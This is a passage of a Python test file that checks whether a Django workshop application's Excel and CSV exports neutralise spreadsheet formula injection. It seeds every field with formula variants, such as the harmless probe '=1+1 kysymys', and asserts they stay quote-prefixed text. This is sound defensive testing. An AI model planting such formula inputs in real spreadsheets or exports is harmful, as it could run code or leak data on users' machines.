        case = Case.objects.create(workshop=workshop, position=10 + index, title=variant)
        phase = Phase.objects.create(
            workshop=workshop, position=100 + index, kind=Phase.Kind.DISCUSSION, title=variant, case=case
        )
        prompt = Prompt.objects.create(phase=phase, position=1, text=variant)
        comment = CommentFactory(
            phase=phase, workshop=workshop, case=case, prompt=prompt, author_participant=person, text=variant
        )
        CommentFactory(
            phase=phase, workshop=workshop, case=case, parent=comment, author_participant=person, text=variant
        )
        leader = ParticipantFactory(workshop=workshop, name=variant, role=Participant.Role.GROUP_LEADER)
        room = Room.objects.create(round=round_, index=10 + index, case=case, leader=leader, summary=variant)
        room.summary_updated_at = timezone.now()
        room.save(update_fields=["summary_updated_at"])
        CommentFactory(
            phase=workshop.phases.get(kind=Phase.Kind.ROUNDS),
            workshop=workshop,
            case=case,
            round=round_,
            room=room,
            author_participant=person,
            text=variant,
        )
        category = Category.objects.create(workshop=workshop, name=f"{variant} {index}", description=variant)
        CommentCategory.objects.create(comment=comment, category=category)
        IdeaFactory(phase=ideas_phase, author_participant=person, text=variant)
        response = FeedbackResponse.objects.create(workshop=workshop, language="fi", submitted_on=date.today())
        FeedbackAnswer.objects.create(response=response, question=question, question_text=question.text, text=variant)
    return workshop


# Where each variant must show up in the main sheet and the CSV (one row per variant at least).
FORMULA_COLUMNS = ["workshop", "phase", "case", "prompt", "leader", "author", "organisation", "department", "text"]


def test_every_formula_variant_in_every_field_stays_text_in_the_workbook(formulas, tmp_path):
    path, _rows = built(formulas, tmp_path)
    for name, xml in sheet_xml(path).items():
        assert "<f>" not in xml and "<f " not in xml, f"a formula in {name}"
        ElementTree.fromstring(xml)  # well-formed: a control character in a sheet name once broke the file
    book = load_workbook(path)
    risky = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for made in row:
                if _risky(made.value):
                    risky += 1
                    assert made.data_type == "s" and made.quotePrefix, (sheet.title, made.coordinate, made.value)
    # every variant reached the cells it was written for (as a cell can hold it: one kind of line break,
    # no control characters), so the check above saw each of them
    expected = {clean_text(variant) for variant in FORMULA_VARIANTS}
    main = records(book["All contributions"])
    for key in FORMULA_COLUMNS[1:]:
        assert expected <= {row[key] for row in main}, key
    assert {row["category"] for row in main} >= {clean_text(f"{v} {i}") for i, v in enumerate(FORMULA_VARIANTS)}
    ideas = {c.value for row in book["Ideas"].iter_rows() for c in row}
    feedback = {c.value for row in book["Feedback"].iter_rows() for c in row}
    categories = {c.value for row in book["Categories"].iter_rows() for c in row}
    participation = {c.value for row in book["Participation"].iter_rows() for c in row}
    for found in (ideas, feedback, categories, participation):
        assert expected <= found
    assert "=1+1 kysymys" in feedback  # a question's text is a header
    assert risky >= 10 * len(FORMULA_VARIANTS)


def test_every_formula_variant_in_every_field_is_prefixed_in_the_csv(formulas, facilitator_client):
    facilitator_client.cookies["kehittamo_language"] = "en"
    response = facilitator_client.get(reverse("reports:export_csv", args=[formulas.pk]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = [
        dict(zip(COLUMN_KEYS, row, strict=True)) for row in csv.reader(io.StringIO(text, newline=""), delimiter=";")
    ]
    for row in rows[1:]:
        for key, value in row.items():
            assert not _risky(value), (key, value)
    for key in FORMULA_COLUMNS:
        values = {row[key] for row in rows[1:]}
        for variant in FORMULA_VARIANTS if key != "workshop" else [formulas.title]:
            assert "'" + variant.replace("\r\n", "\n").replace("\r", "\n") in values, (key, variant)
